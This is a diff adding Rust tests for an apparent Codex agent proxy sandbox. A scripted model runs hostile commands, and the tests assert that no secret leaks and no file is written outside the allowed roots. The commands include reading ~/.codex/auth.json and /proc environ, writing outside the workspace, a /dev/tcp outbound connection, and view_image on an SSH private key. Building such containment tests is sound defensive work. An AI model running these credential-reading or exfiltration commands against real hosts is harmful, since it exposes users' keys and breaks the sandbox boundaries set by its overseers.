@@ -46,10 +46,20 @@ fn assert_nothing_leaked(upstream: &Upstream, mark: &Path) {
 #[test]
 fn a_hostile_home_and_workspace_leak_nothing() {
     let Some((setup, upstream)) = real() else { return };
+    nothing_leaks(setup, &upstream);
+}
+
+#[test]
+fn a_hostile_home_and_workspace_leak_nothing_to_an_app_server_agent() {
+    let Some((setup, upstream)) = real() else { return };
+    nothing_leaks(setup.set("engine", "app-server").set("profile", "agent"), &upstream);
+}
+
+fn nothing_leaks(setup: Setup, upstream: &Upstream) {
     let mark = hostile_home(&setup);
     let proxy = setup.start();
     assert_eq!(proxy.ask("Reply with exactly: pong").send().answer(), "pong");
-    assert_nothing_leaked(&upstream, &mark);
+    assert_nothing_leaked(upstream, &mark);
 }
 
 #[test]
@@ -81,6 +91,18 @@ fn what_is_put_into_the_isolated_home_is_cleared_away() {
 #[test]
 fn a_model_that_tries_learns_no_secret() {
     let Some((setup, upstream)) = real() else { return };
+    a_model_tries(setup, &upstream);
+}
+
+#[test]
+fn a_model_that_tries_learns_no_secret_from_an_app_server() {
+    let Some((setup, upstream)) = real() else { return };
+    a_model_tries(setup.set("engine", "app-server").set("profile", "agent"), &upstream);
+}
+
+/// A model runs every command it can think of; nothing of the host comes back, nothing is written
+/// and nothing is connected to.
+fn a_model_tries(setup: Setup, upstream: &Upstream) {
     let scratch = setup.scratch();
     scratch.write("home/.codex/auth.json", r#"{"OPENAI_API_KEY":"sk-LEAK-auth"}"#);
     scratch.write("home/.codex/config.toml", "# LEAK-config\n");
@@ -88,6 +110,8 @@ fn a_model_that_tries_learns_no_secret() {
     scratch.write("outside.txt", "LEAK-outside");
     scratch.write("home/.codex-api-proxy/workspace/note.txt", "the workspace may be read");
     let root = scratch.path().display().to_string();
+    let url = upstream.url();
+    let network = url.trim_start_matches("http://").trim_end_matches("/v1").replace(':', "/");
     let commands = [
         "cat note.txt".to_owned(),
         "cat ~/.codex/auth.json".into(),
@@ -100,7 +124,8 @@ fn a_model_that_tries_learns_no_secret() {
         "cat /proc/$PPID/environ /proc/self/environ /proc/1/environ".into(),
         "cat /proc/*/cmdline | tr '\\0' ' '".into(),
         "ls -la ..; cat ../codex-home/*".into(),
-        "touch wrote-here; echo LEAK > ../wrote-outside".into(),
+        "touch wrote-here; echo LEAK > ../wrote-outside; echo LEAK > ~/wrote-outside".into(),
+        format!("bash -c 'exec 3<>/dev/tcp/{network} && printf LEAK-%s network'"),
     ];
     let mut replies: Vec<Reply> = commands
         .iter()
@@ -129,10 +154,55 @@ fn a_model_that_tries_learns_no_secret() {
         // The command itself may stand in a list of processes; the secrets may not.
         assert!(!output.replace("echo LEAK", "").contains("LEAK"), "{command}: {output}");
     }
-    assert!(
-        !workspace.join("wrote-here").exists() && !workspace.with_file_name("wrote-outside").exists(),
-        "nothing was written"
-    );
+    // The tools that need no shell.
+    let home = proxy.scratch().path().join("home");
+    let picture = serde_json::json!({ "path": home.join(".ssh/id_ed25519") }).to_string();
+    let patch = "*** Begin Patch\n*** Add File: wrote-patch\n+x\n*** End Patch";
+    let tries =
+        [Reply::call("view_image", &picture), Reply::nothing().then_custom_call("apply_patch", patch)];
+    upstream.when("go on", tries.into_iter().chain([Reply::text("done")]));
+    let ask =
+        proxy.chat(serde_json::json!({ "model": "gpt-5.5", "messages": [crate::support::user("go on")] }));
+    assert_eq!(ask.key("LEAK-proxy-key").send().answer(), "done");
+    let last = upstream.requests().pop().unwrap();
+    assert!(!last.text().contains("LEAK") && last.images().is_empty(), "{}", last.text());
+    for written in [
+        workspace.join("wrote-here"),
+        workspace.join("wrote-patch"),
+        workspace.with_file_name("wrote-outside"),
+        home.join("wrote-outside"),
+    ] {
+        assert!(!written.exists(), "{} was written", written.display());
+    }
+}
+
+/// The directory the client asked for is where an agent works and reads, and no other.
+#[test]
+fn an_app_server_agent_works_where_it_is_told() {
+    let Some((setup, upstream)) = real() else { return };
+    let scratch = setup.scratch();
+    scratch.write("work/here/note.txt", "the note");
+    scratch.write("work/there/note.txt", "LEAK");
+    scratch.write("home/.codex-api-proxy/workspace/note.txt", "the workspace");
+    let roots = format!("{}:{}", scratch.dir("work").display(), setup.workspace().display());
+    let here = scratch.path().join("work/here");
+    let proxy = setup
+        .set("engine", "app-server")
+        .set("profile", "agent")
+        .set("prewarm", 1)
+        .env("CODEX_PROXY_ALLOWED_ROOTS", &roots)
+        .start();
+    for (cwd, expect) in [(Some(&here), "the note"), (None, "the workspace"), (Some(&here), "the note")] {
+        upstream.reply(Reply::call("exec_command", r#"{"cmd":"pwd; cat note.txt; cat ../there/note.txt"}"#));
+        upstream.reply(Reply::text("done"));
+        let mut body = serde_json::json!({ "model": "gpt-5.5", "messages": [crate::support::user("look")] });
+        if let Some(cwd) = cwd {
+            body["metadata"] = serde_json::json!({ "cwd": cwd });
+        }
+        assert_eq!(proxy.chat(body).send().answer(), "done");
+        let output = upstream.requests().last().unwrap().tool_outputs().pop().unwrap();
+        assert!(output.contains(expect) && !output.contains("LEAK"), "{output}");
+    }
 }
 
 #[test]
